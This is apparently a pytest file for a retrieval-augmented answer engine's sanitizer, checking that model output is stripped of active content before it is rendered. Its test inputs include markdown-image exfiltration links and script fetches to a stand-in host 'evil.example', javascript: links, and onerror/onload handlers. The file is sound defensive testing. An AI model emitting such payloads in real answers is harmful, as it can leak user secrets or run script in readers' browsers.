"""Model output is made inert before it is returned or rendered, whatever it contains."""

from __future__ import annotations

import pytest

from rag.safety.sanitize import strip_active_content


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("Yes [1]. ![x](https://evil.example/c?q=(secret)) done", "Yes [1]. done"),
        ("See [read more](http://evil.example/x) [2].", "See read more [2]."),
        ("<script>fetch('//evil.example')</script>Tariff was 100% [1].", "Tariff was 100% [1]."),
        ("[Click](javascript:alert(1)) now", "Click now"),
        ('<a href="javascript:alert(1)">Click</a> [2]', "Click [2]"),
        ("x &lt;img src=x onerror=alert(1)&gt; y", "x y"),
        ("[1](http://evil.example) said so", "[1] said so"),
        ("Go to JavaScript:alert(1)", "Go to JavaScript-alert(1)"),
        ("![a][ref]\n[ref]: http://evil.example/p.png", ""),
        ('<svg/onload=alert(1)>x <Widget onclick="steal()">y</Widget>', "x y"),
        ("<iframe\nsrc=//evil.example></iframe>z", "z"),
        # angle-bracketed text is not markup: it stays, and can never become a tag
        ("It returns Option<T> [1].", "It returns Option‹T› [1]."),
        ("Run cargo add <name> [2].", "Run cargo add ‹name› [2]."),
        ("Open <b onclick=x [1].", "Open ‹b onclick=x [1]."),  # a lone "<" too
    ],
)
def test_active_content_is_removed(raw, expected):
    assert strip_active_content(raw) == expected


@pytest.mark.parametrize(
    "kept",
    [
        "Canola tariffs were 100% [1][2].",
        "The data: 5 points [1] (on canola).",
        "Carney met Xi Jinping in Gyeongju, South Korea [3].",
        "The default prompt string is `'> '` [1].",  # a lone ">" opens no tag
        "It maps `x => x * 2` and prints `a -> b` [2].",
    ],
)
def test_plain_answers_are_untouched(kept):
    assert strip_active_content(kept) == kept


def test_the_api_answer_never_carries_images_html_or_script_links(engine_factory, corpus):
    engine = engine_factory(
        [
            "Green tea is brewed at 80 degrees Celsius [1]. "
            "![p](https://evil.example/x.png?d=tea) <img src=x onerror=alert(1)> "
            "[details](javascript:alert(1))"
        ]
    )
    engine.index([corpus])
    answer = engine.ask("How hot should green tea be?")
    for bad in ("evil.example", "<img", "javascript:", "]("):
        assert bad not in answer.text and bad not in str(answer.to_dict()["answer"])
    assert "Green tea is brewed at 80 degrees Celsius" in answer.text and "[1]" in answer.text
